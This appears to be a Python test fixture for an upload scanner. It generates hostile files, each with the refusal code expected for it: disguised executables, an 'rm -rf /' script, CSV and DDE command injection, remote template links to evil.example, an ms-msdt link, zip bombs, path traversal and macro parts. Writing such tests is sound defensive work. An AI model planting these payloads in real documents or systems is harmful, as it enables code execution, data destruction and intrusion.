"""Hostile files, made in memory: each with the name it comes under and the code it is refused with.

Those that are cleaned rather than refused are in `test_cleaning.py`.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.core.uploads.attack_pictures import PICTURES
from tests.core.uploads.sample_files import book, changed, excel, open_document, packed, pdf, powerpoint, word

RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
PROGRAM = b"MZ\x90\x00\x03" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
TEST_VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Attack:
    id: str
    name: str
    content: Callable[[], bytes]
    code: str


def fixed(content):
    return lambda: content


def with_part(name, content, of=word):
    return lambda: changed(of(), {name: content})


def with_type(content_type):
    def make():
        return changed_text(word(), "[Content_Types].xml", "</Types>", f'<Override PartName="/x" ContentType="{content_type}"/></Types>')  # fmt: skip

    return make


def changed_text(content, name, old, new):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        text = archive.read(name).decode()
    assert old in text
    return changed(content, {name: text.replace(old, new)})


def with_relationship(kind, target, part="word/_rels/document.xml.rels", of=word, mode="External"):
    return with_part(
        part,
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId99" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>',
        of,
    )


def with_field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return with_part("word/document.xml", f'<w:document xmlns:w="{WORD}"><w:body><w:p>{begin}{runs}</w:p></w:body></w:document>')  # fmt: skip


def zip_bomb():
    return packed({"[Content_Types].xml": "spreadsheetml.sheet.main+xml", "xl/a.xml": bytes(60 * 1024 * 1024)})


def many_members():
    return packed({f"a{number}.txt": "" for number in range(4_000)})


def understated():
    """A member that says it unpacks to less than it does."""
    return packed({"a.txt": bytes(5_000_000)}).replace(struct.pack("<L", 5_000_000), struct.pack("<L", 1_000))


def overlapping():
    """Two entries in the list of members share one piece of the archive."""
    content = packed({"a.txt": b"a" * 1000})
    directory = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = content[directory:end]
    second = entry.replace(b"a.txt", b"b.txt")
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(entry) * 2, directory, 0)
    return content[:directory] + entry + second + tail


def large_ending():
    content = packed({"a.txt": "a"})
    end = content.index(b"PK\x05\x06")
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 2**40, 2**40, 2**40, 0)
    return content[:end] + record + struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1) + content[end:]


def marked_encrypted(content=None):
    """Every member says that it is encrypted."""
    changed_bytes = bytearray(content or packed({"a.txt": "a"}))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed_bytes.find(sign)
        while at >= 0:
            changed_bytes[at + offset] |= 1
            at = changed_bytes.find(sign, at + 4)
    return bytes(changed_bytes)


def symlink():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("report.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def encrypted_pdf(**passwords):
    import pikepdf

    def make():
        buffer = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf())) as document:
            document.save(buffer, encryption=pikepdf.Encryption(**passwords))
        return buffer.getvalue()

    return make


def entity_bomb():
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol" * 10}">' for n in range(9))
    return f'<!DOCTYPE x [{entities}]><w:document xmlns:w="{WORD}">&a8;</w:document>'


EXTERNAL_DDE = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

NAMES = [
    Attack("web page as PDF", "a.pdf", fixed(HTML), "web_page"),
    Attack("web page as Word", "a.docx", fixed(HTML), "web_page"),
    Attack("web page as JPEG", "a.jpg", fixed(HTML), "web_page"),
    Attack("web page as text", "a.txt", fixed(HTML), "web_page"),
    Attack("web page after a mark", "a.csv", fixed(b"\xef\xbb\xbf \n" + HTML), "web_page"),
    Attack("script inside text", "a.txt", fixed(b"hello\n<ScRiPt >alert(1)</script>"), "web_page"),
    Attack("vector picture", "a.svg", fixed(b"<svg onload='alert(1)'/>"), "kind"),
    Attack("vector picture as PNG", "a.png", fixed(b"<svg onload='alert(1)'/>"), "web_page"),
    Attack("web page by name", "a.html", fixed(HTML), "kind"),
    Attack("program as PDF", "a.pdf", fixed(PROGRAM), "program"),
    Attack("program by name", "a.pdf.exe", fixed(PROGRAM), "kind"),
    Attack("Linux program as Word", "a.docx", fixed(ELF), "program"),
    Attack("shell script as text", "a.txt", fixed(b"#!/bin/sh\nrm -rf /\n"), "program"),
    Attack("batch file as text", "a.txt", fixed(b"@ECHO OFF\r\ndel *\r\n"), "program"),
    Attack("shortcut as PDF", "a.pdf", fixed(b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(90)), "program"),
    Attack("test file of virus scanners", "a.txt", fixed(TEST_VIRUS), "program"),
    Attack("empty file", "a.pdf", fixed(b""), "empty"),
    Attack("noise as PDF", "a.pdf", fixed(bytes(range(256)) * 8), "unknown"),
    Attack("noise as text", "a.txt", fixed(bytes(range(256)) * 8), "not_text"),
    Attack("PDF as Word", "a.docx", pdf, "ending"),
    Attack("Word as Excel", "a.xlsx", word, "ending"),
    Attack("RTF as Word", "a.docx", fixed(b"{\\rtf1 hello}"), "rtf"),
    Attack("old Word as new", "a.docx", fixed(OLE), "old_office"),
    Attack("compressed file as PDF", "a.pdf", fixed(gzip.compress(b"a" * 100)), "archive"),
    Attack("command in a table", "a.csv", fixed(b"a,b\n1,=cmd|'/c calc'!A0\n"), "commands"),
]

ARCHIVES = [
    Attack("zip bomb", "a.xlsx", zip_bomb, "bomb"),
    Attack("zip of 4,000 files", "a.zip", many_members, "bomb"),
    Attack("zip with a false size", "a.zip", understated, "damaged"),
    Attack("zip with shared bytes", "a.zip", overlapping, "bomb"),
    Attack("zip with the ending of huge ones", "a.zip", large_ending, "bomb"),
    Attack("zip in a zip", "a.zip", lambda: packed({"b.zip": packed({"c.txt": "c"})}), "archive"),
    Attack("zip in a zip under another name", "a.zip", lambda: packed({"b.pdf": packed({"c.txt": "c"})}), "archive"),
    Attack("path out of the archive", "a.zip", lambda: packed({"../../etc/a.txt": "a"}), "unsafe_names"),
    Attack("absolute path", "a.zip", lambda: packed({"/etc/a.txt": "a"}), "unsafe_names"),
    Attack("path of Windows", "a.zip", lambda: packed({"C:\\a.txt": "a"}), "unsafe_names"),
    Attack("symbolic link", "a.zip", symlink, "unsafe_names"),
    Attack("encrypted zip", "a.zip", marked_encrypted, "encrypted"),
    Attack("encrypted Word", "a.docx", lambda: marked_encrypted(word()), "encrypted"),
    Attack("program in a zip", "a.zip", lambda: packed({"a.txt": PROGRAM}), "program"),
    Attack("cut zip", "a.docx", lambda: word()[:-200], "damaged"),
    Attack("zip without members", "a.zip", lambda: b"PK\x05\x06" + bytes(18), "archive"),
]

OFFICE_FILES = [
    Attack("macro in Word", "a.docx", with_part("word/vbaProject.bin", OLE), "macros"),
    Attack("macro in Word, other case", "a.docx", with_part("word/VBAPROJECT.BIN", OLE), "macros"),
    Attack("macro-enabled type", "a.docx", with_type(MACRO_TYPE), "macros"),
    Attack("macro sheet in Excel", "a.xlsx", with_part("xl/macrosheets/sheet1.xml", "<a/>", excel), "macros"),
    Attack("ActiveX in Word", "a.docx", with_part("word/activeX/activeX1.xml", "<a/>"), "macros"),
    Attack("object in Word", "a.docx", with_part("word/embeddings/oleObject1.bin", OLE), "embedded"),
    Attack("object under another name", "a.docx", with_part("word/media/image9.emf", OLE), "embedded"),
    Attack("program in Word", "a.docx", with_part("word/media/image9.png", PROGRAM), "program"),
    Attack("macro workbook in slides", "a.pptx", with_part("ppt/embeddings/a.xlsm", excel(), powerpoint), "macros"),
    Attack("workbook with macros behind a chart", "a.pptx", with_part("ppt/embeddings/a.xlsx", with_part("xl/vbaProject.bin", OLE, excel)(), powerpoint), "macros"),
    Attack("zip in Word", "a.docx", with_part("word/media/a.png", packed({"a": "a"})), "nested"),
    Attack("template from elsewhere", "a.docx", with_relationship("attachedTemplate", "https://evil.example/a.dotm"), "links_out"),
    Attack("template from a server's disk", "a.docx", with_relationship("attachedTemplate", "\\\\evil\\a.dotm"), "links_out"),
    Attack("object from elsewhere", "a.docx", with_relationship("oleObject", "mhtml:https://evil.example/a"), "links_out"),
    Attack("object from elsewhere, said to be inside", "a.docx", with_relationship("oleObject", "https://evil.example/a", mode="Internal"), "links_out"),
    Attack("picture from elsewhere", "a.docx", with_relationship("image", "https://evil.example/a.png"), "links_out"),
    Attack("link that runs", "a.docx", with_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic"), "bad_links"),
    Attack("link to a server's disk", "a.docx", with_relationship("hyperlink", "file://evil/share"), "bad_links"),
    Attack("DDE field", "a.docx", with_field(" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot; "), "commands"),
    Attack("DDE field in pieces", "a.docx", with_field(" D", "D", "E", "AUTO cmd"), "commands"),
    Attack("DDE field with an element in its name", "a.docx", with_field(" DD<w:x/>E cmd"), "commands"),
    Attack("DDE field without a space", "a.docx", with_field('DDEAUTO"cmd"'), "commands"),
    Attack("web page put into the text", "a.docx", with_relationship("aFChunk", "a.htm", mode="Internal"), "embedded"),
    Attack("template behind a second address", "a.docx", with_relationship("attachedTemplate", 'https://evil.example/a.dotm" x:Target="a.xml" x:TargetMode="Internal" xmlns:x="x'), "links_out"),
    Attack("template called a link", "a.docx", with_relationship("hyperlink", "https://evil.example/a.dotm", part="word/_rels/settings.xml.rels"), "links_out"),
    Attack("program started by a slide", "a.pptx", with_part("ppt/slides/slide1.xml", '<a action="ppaction://program"/>', powerpoint), "commands"),
    Attack("program started by a slide of Impress", "a.odp", lambda: open_document("presentation", '<script:event-listener xmlns:p="p" p:action="execute"/>'), "macros"),
    Attack("DDE link in Excel", "a.xlsx", with_part("xl/externalLinks/externalLink1.xml", EXTERNAL_DDE, excel), "commands"),
    Attack("data connection in Excel", "a.xlsx", with_part("xl/connections.xml", "<connections/>", excel), "links_out"),
    Attack("entity bomb in Word", "a.docx", with_part("word/document.xml", entity_bomb()), "bomb"),
    Attack("broken XML in Word", "a.docx", with_part("word/document.xml", "<w:document"), "damaged"),
    Attack("macro in Writer", "a.odt", lambda: open_document(extra={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    Attack("script in Writer", "a.odt", lambda: open_document(extra={"Scripts/python/a.py": "import os"}), "macros"),
    Attack("event in Writer", "a.odt", lambda: open_document(body='<script:event-listener script:language="ooo:script"/>'), "macros"),
    Attack("link to a macro in Writer", "a.odt", lambda: open_document(body='<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>'), "macros"),
    Attack("DDE in Calc", "a.ods", lambda: open_document("spreadsheet", '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>'), "commands"),
    Attack("plug-in in Impress", "a.odp", lambda: open_document("presentation", '<draw:plugin xlink:href="./a"/>'), "embedded"),
    Attack("picture from elsewhere in Writer", "a.odt", lambda: open_document(body='<draw:image xlink:href="https://evil.example/a.png"/>'), "links_out"),
    Attack("section from elsewhere in Writer", "a.odt", lambda: open_document(body='<text:section-source xlink:href="//evil/a.odt"/>'), "links_out"),
    Attack("encrypted Writer", "a.odt", lambda: open_document(extra={"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}), "encrypted"),
    Attack("template as text", "a.odt", lambda: open_document("text-template"), "ending"),
    Attack("script in a book", "a.epub", lambda: book(page="<script>alert(1)</script>"), "macros"),
    Attack("handler in a book", "a.epub", lambda: book(page="<p onclick='alert(1)'>a</p>"), "macros"),
    Attack("script file in a book", "a.epub", lambda: book({"a.js": "alert(1)"}), "program"),
    Attack("encrypted book", "a.epub", lambda: book({"META-INF/encryption.xml": "<a/>"}), "encrypted"),
]  # fmt: skip

PDFS = [
    Attack("PDF with a password", "a.pdf", encrypted_pdf(user="secret", owner="secret"), "encrypted"),
    Attack("PDF protected against copying", "a.pdf", encrypted_pdf(owner="secret"), "encrypted"),
    Attack("cut PDF", "a.pdf", lambda: pdf()[:60], "damaged"),
    Attack("PDF of one line", "a.pdf", fixed(b"%PDF-1.7\n"), "damaged"),
    Attack("web page before the PDF", "a.pdf", lambda: HTML + pdf(), "web_page"),
    Attack("PDF of noise", "a.pdf", lambda: b"%PDF-1.7\n" + zlib.compress(bytes(range(256)) * 50), "damaged"),
]

ATTACKS = [*NAMES, *ARCHIVES, *OFFICE_FILES, *PDFS, *(Attack(*attack) for attack in PICTURES)]
